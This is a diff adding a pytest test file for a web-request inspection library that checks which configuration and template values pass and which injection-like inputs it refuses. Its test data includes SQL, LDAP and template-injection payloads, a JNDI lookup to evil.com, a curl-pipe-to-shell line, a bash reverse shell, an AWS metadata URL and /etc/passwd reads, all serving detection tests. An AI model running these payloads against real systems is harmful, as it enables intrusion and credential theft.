@@ -1,0 +1,205 @@
+"""Patterns, pointers, types and placeholders pass; what only looks like one is weighed."""
+
+from __future__ import annotations
+
+import json
+from urllib.parse import quote
+
+import pytest
+
+from guard_wsgi.detection import Inspection
+from guard_wsgi.detection.notations import excused
+from guard_wsgi.detection.placeholders import without_placeholders
+
+FORM = "application/x-www-form-urlencoded"
+
+
+def in_json(inspection: Inspection, name: str, text: str) -> bool:
+    """Whether a document with a text under a path, as in ``steps[].run``, is refused."""
+    document: object = text
+    for key in reversed(name.replace("[]", ".[]").split(".")):
+        document = [document] if key == "[]" else {key: document}
+    body = json.dumps(document).encode()
+    return bool(inspection.body(body, content_type="application/json"))
+
+
+def in_form(inspection: Inspection, name: str, text: str) -> bool:
+    return bool(inspection.body(f"{name}={quote(text, safe='')}".encode(), content_type=FORM))
+
+
+WRITTEN = (
+    r"^(0|[1-9]\d*)\.(0|[1-9]\d*)\.(0|[1-9]\d*)(?:-[0-9A-Za-z.-]+)?$",
+    "^(llvm|gcc)$",
+    r"(UA-\d{4,9}-\d)|(G-\w+)",
+    r"^\d{1,2}\.\d{1,2}(\.\d{1,2})?$",
+    r"((25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)\.){3}(25[0-5]|2[0-4][0-9])",
+    r"^META-INF/[^/]+\.RSA$",
+    r"/\.gradle(\.kts)?$/",
+    "**/.git/**",
+    "!**/node_modules/**",
+    "lib/**/*.js",
+    "**/{,.}mise{,.*}.toml",
+    "https://*.example.com/*",
+    "*://*.chromium.org/*",
+    "#/definitions/credentials",
+    "java.util.ArrayList",
+    "org.apache.hadoop.mapred.SequenceFileInputFormat",
+    "redis:6379",
+    "mongo:7.0.5",
+    "kafka.shop-1.svc.cluster.local:9092",
+    "/var/run/docker.sock:/var/run/docker.sock:ro",
+    "v${version}",
+    "uploads/${filename}",
+    "${BUILD_NUMBER}",
+    "${longdate}|${level:uppercase=true}|${message:raw=true}",
+    ">=16 || 14 >=14.17",
+    'auth == "Individual" || auth == "IndividualB2C"',
+    "((node_hwmon_temp_alarm == 1) or (node_load1 > 3))",
+)
+
+
+@pytest.mark.parametrize("text", WRITTEN)
+def test_a_notation_of_a_configuration_passes(inspection: Inspection, text: str) -> None:
+    for name in ("rules.pattern", "include[]", "settings.value"):
+        assert not in_json(inspection, name, text)
+    assert not in_form(inspection, "setting", text)
+
+
+PLACEHOLDERS = (
+    "{{ $labels.instance }}: {{ $value | humanize }} of {{ $labels.namespace }}",
+    '={{ $json["Id"] }}',
+    "={{ $('Set input data').first().json.inputDatabase }}",
+    "={{ $json.type == 'video' && Boolean($json.video) }}",
+    '={{ $json["What\'s your email address?"] }}',
+    '{{- if .Values.ingress.enabled }}{{ include "chart.name" . }}{{- end }}',
+    "{{ .Values.image.tag | default .Chart.AppVersion | quote }}",
+    "{{ states('sensor.temperature') }} °C",
+    "{{ 'now' | date: '%Y' }}",
+    "{{ price * quantity }}",
+    "{{#if user}}Hello {{user.name}}{{else}}Hello{{/if}}",
+    "${{ fromJSON(needs.setup.outputs.matrix) }}",
+    "${{ github.event_name == 'push' && github.ref == 'refs/heads/main' }}",
+    "amqp://guest:{rabbit-password.value}@{rabbit.bindings.tcp.host}:{rabbit.bindings.tcp.port}",
+)
+
+
+@pytest.mark.parametrize("text", PLACEHOLDERS)
+def test_a_placeholder_that_shows_data_passes(inspection: Inspection, text: str) -> None:
+    assert not in_json(inspection, "nodes[].parameters.value", text)
+    assert not in_form(inspection, "template", text)
+
+
+ATTACKS = (
+    # Regular expressions that are no such.
+    r".\/\.\.\/\.\boot.ini",
+    r"C:\Windows\win.ini",
+    "^{{7*7}}",
+    "*)(uid=*))(|(uid=*",
+    "x|cat /etc/passwd",
+    "(a);cat /etc/passwd;(b)?",
+    # A comment of SQL in the place of a folder.
+    "1/**/union/**/select/**/password/**/from/**/users",
+    "DECLARE/**/@x",
+    # Addresses with a colon in the middle.
+    "//https://shop.example.com@evil.com/%2e%2e%2f",
+    "file:/etc/passwd",
+    "http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next",
+    "${jndi:ldap://evil.com/a}",
+    "1 || 14 >= 14",
+    # Placeholders that calculate, call, or hide quotes of SQL, tags and commands.
+    "{{7*7}}",
+    "{{config}}",
+    "{{''.__class__.__mro__}}",
+    "{{ $json.constructor.constructor('alert(1)')() }}",
+    "{{ $json['constr'+'uctor']['constr'+'uctor']('alert(1)')() }}",
+    "{{ ['constr'.concat('uctor')].map(x => $json[x]).map(f => f('alert(1)')()) }}",
+    "{{ $json && system('cat /etc/passwd') }}",
+    "{{ $('<img src=x onerror=alert(1)>') }}",
+    '{{ $json["\' or 1=1 -- "] }}',
+    "{{ $json + '=' }}' or '1'='1",
+    "{{ $json || cat /etc/passwd }}",
+    '{{ .System "cat /etc/passwd" }}',
+    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
+    "{{ ['id']|filter('system') }}",
+    "${{ 7*7 }}",
+)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_what_only_looks_like_a_notation_is_refused(inspection: Inspection, text: str) -> None:
+    assert in_json(inspection, "settings.value", text)
+    assert in_form(inspection, "setting", text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{{ $json + ' = ' }}",
+        "{{ $json + 'or 1 or' }}",
+        "{{ x | default(' = ') }}",
+        "{{ $json || reboot }}",
+        "{{ $json | reboot }}",
+        "{{ $json\nreboot\n}}",
+        "{{ x|attr('__class__') }}",
+        "${{ github.ref == '*' }}",
+        '{{ "".getClass() }}',
+    ],
+)
+def test_a_placeholder_is_taken_out_only_if_nothing_in_it_acts(text: str) -> None:
+    assert without_placeholders(text) == text
+
+
+def test_a_notation_excuses_only_what_it_cannot_be() -> None:
+    assert "sqli" not in excused("^1|1$", False)
+    assert "cmd_injection" not in excused(r"^\d+|reboot$", False)
+    assert "cmd_injection" in excused(r"^(\d+|none)$", False)
+    assert "open_redirect" not in excused(r"//evil.com/\w+", False)
+    assert "open_redirect" not in excused(r"/\www.evil.com/\w+/", False)
+    assert "sensitive_file" not in excused(r"/etc/passwd\b", False)
+    assert "cmd_injection" in excused("/usr/bin/terraform", True)
+    assert "cmd_injection" not in excused("/usr/bin/id", False)
+
+
+GIVEN = (
+    ("steps[].command", "python3 -m http.server"),
+    ("hooks.pre[].command", "echo 'started' >> ~/.tool/activity.log"),
+    ("script[]", "python setup.py install"),
+    ("executors.macos.shell", "/bin/zsh"),
+    ("env.OTEL_EXPORTER_OTLP_LOGS_CLIENT_KEY", "/etc/otel/logs-client.key"),
+    ("tasks[].command", "bin/rspec ${relativeFile}:${lineNumber}"),
+    ("$schema", "../../schemas/json/package.json"),
+    ("bindings[].commandText", "SELECT * FROM Products"),
+    ("QueryString", "SELECT * FROM table1"),
+    ("create.files[]", "docker/docker-compose.yml"),
+    ("spec.containers[].volumeMounts[].mountPath", "/etc/nginx/ssl"),
+)
+
+
+@pytest.mark.parametrize(("name", "text"), GIVEN)
+def test_what_a_document_gives_to_a_program_passes(
+    inspection: Inspection, name: str, text: str
+) -> None:
+    assert not in_json(inspection, name, text)
+    # A document in a field of a form, as an editor of configurations sends it.
+    document: object = text
+    for key in reversed(name.replace("[]", ".[]").split(".")):
+        document = [document] if key == "[]" else {key: document}
+    if name.startswith(("steps", "hooks", "script", "env", "$schema")):
+        assert not in_form(inspection, "config", json.dumps(document))
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("steps[].command", "; cat /etc/passwd"),
+        ("steps[].command", "curl http://e.vil/a.sh | sh"),
+        ("task.cmd", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+        ("command", "python3 -m http.server; cat /etc/passwd"),
+        ("env.HOME_PAGE", "http://169.254.169.254/latest/meta-data/iam"),
+        ("report.sql", "1' OR '1'='1"),
+        ("report.sql", "1 UNION SELECT password FROM users"),
+        ("create.files[]", "../../../../etc/passwd"),
+    ],
+)
+def test_an_attack_in_such_a_field_is_refused(inspection: Inspection, name: str, text: str) -> None:
+    assert in_json(inspection, name, text)
